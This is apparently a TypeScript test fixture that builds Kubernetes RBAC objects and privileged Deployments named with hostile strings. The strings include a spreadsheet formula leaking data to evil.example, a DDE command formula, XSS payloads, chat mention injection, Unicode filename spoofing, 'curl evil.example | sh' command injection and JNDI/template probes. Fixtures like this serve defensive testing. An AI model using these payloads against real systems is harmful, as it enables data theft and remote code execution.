/** What somebody may be called, or call a role: all of it is valid in Kubernetes. */
export const hostileNames = [
  '=HYPERLINK("http:evil.example?leak="&A1,"Click")',
  '+1+1',
  "@SUM(1+1)*cmd|' :C calc'!A0",
  '<img src=x onerror=alert(1)>',
  '<script>alert(2)<:script>',
  '"><svg onload=alert(3)>',
  '[click me](javascript:alert(4)) **bold** `code`',
  '![x](http:evil.example) @everyone <!channel> <@U1>',
  '{code}[~admin] !x.png! h1. {noformat}',
  'a, "b"\r\n=1+1; c',
  'admin\u202egnp.exe\u200b',
  "'; curl evil.example | sh; '",
  '👩‍💻 dev ops 🏴‍☠️',
  '${jndi:ldap:evil} {{7*7}} <?= 7 ?>',
] as const;

const api = 'rbac.authorization.k8s.io';
export const hostileObjects = [
  { apiVersion: 'v1', kind: 'Namespace', metadata: { name: 'shop', labels: { team: hostileNames[4] } } },
  { apiVersion: `${api}/v1`, kind: 'Role', metadata: { name: 'reader', namespace: 'shop' }, rules: [] },
  ...hostileNames.flatMap((name, at) => [
    {
      ...{ apiVersion: `${api}/v1`, kind: 'ClusterRole', metadata: { name } },
      rules: [{ apiGroups: ['*'], resources: ['*', name], verbs: ['*'] }],
    },
    {
      ...{ apiVersion: `${api}/v1`, kind: 'ClusterRoleBinding', metadata: { name } },
      roleRef: { apiGroup: api, kind: 'ClusterRole', name },
      subjects: [{ apiGroup: api, kind: at % 2 ? 'Group' : 'User', name }],
    },
    {
      ...{ apiVersion: `${api}/v1`, kind: 'RoleBinding', metadata: { name, namespace: 'shop' } },
      roleRef: { apiGroup: api, kind: 'Role', name: `gone ${name}` },
      subjects: [{ apiGroup: api, kind: 'User', name }],
    },
    {
      ...{ apiVersion: 'apps/v1', kind: 'Deployment', metadata: { name, namespace: 'shop', labels: { app: name } } },
      spec: {
        selector: { matchLabels: { app: name } },
        template: {
          metadata: { labels: { app: name } },
          spec: { containers: [{ name, image: `registry.example/${at}:1`, securityContext: { privileged: true } }] },
        },
      },
    },
  ]),
];
